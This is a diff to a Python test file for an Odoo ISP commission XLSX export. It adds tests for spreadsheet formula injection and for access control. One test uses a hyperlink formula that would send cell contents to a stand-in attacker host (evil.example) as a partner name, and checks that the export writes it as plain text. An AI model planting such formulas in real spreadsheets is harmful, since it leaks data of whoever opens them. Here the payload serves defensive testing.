@@ -7,7 +7,7 @@ import unittest
 
 import openpyxl
 
-from odoo.exceptions import UserError, ValidationError
+from odoo.exceptions import AccessError, UserError, ValidationError
 from odoo.tests.common import at_install, post_install
 
 from ..wizards.isp_commission_settlement_xlsx import sum_formula
@@ -98,7 +98,7 @@ class TestCommissionXlsx(IspCommon):
             })],
         })
         order.action_isp_validate()
-        order.action_isp_credit_check(date_ref=date_invoice)
+        order._isp_credit_check(date_ref=date_invoice)
         order.action_isp_mark_ready()
         order.action_confirm()
         invoice = cls.env['account.invoice'].browse(
@@ -205,3 +205,33 @@ class TestCommissionXlsx(IspCommon):
         with self.assertRaises(ValidationError):
             self.env['isp.commission.settlement.xlsx'].create({
                 'date_from': '2026-02-01', 'date_to': '2026-01-01'})
+
+    def test_text_starting_with_equals_stays_text(self):
+        """A name an agent (or anybody who edits partners) chose is
+        written as text: opened in a spreadsheet it is not a formula."""
+        evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        self.agent_south.name = evil
+        formulas, values = self._export(
+            '2026-01-01', '2026-01-31', agents=self.agent_south)
+        self.assertEqual(formulas['A4'].value, evil)
+        self.assertEqual(formulas['A4'].data_type, 's')
+        self.assertEqual(formulas['A5'].value, 'Total %s' % evil)
+        self.assertEqual(formulas['A5'].data_type, 's')
+        self.assertEqual(values['A4'].value, evil)
+
+    def test_export_is_refused_outside_the_back_office(self):
+        employee = self._create_user(
+            'isp_xlsx_employee', ['base.group_user'])
+        agent = self._create_user(
+            'isp_xlsx_agent', ['isp_crm.group_isp_agent'])
+        Attachment = self.env['ir.attachment'].sudo()
+        before = Attachment.search_count(
+            [('res_model', '=', 'isp.commission.settlement.xlsx')])
+        for user in (employee, agent):
+            wizard = self.env['isp.commission.settlement.xlsx'].sudo(
+                user).create({'date_from': '2026-01-01',
+                              'date_to': '2026-02-28'})
+            with self.assertRaises(AccessError):
+                wizard.action_export()
+        self.assertEqual(Attachment.search_count(
+            [('res_model', '=', 'isp.commission.settlement.xlsx')]), before)
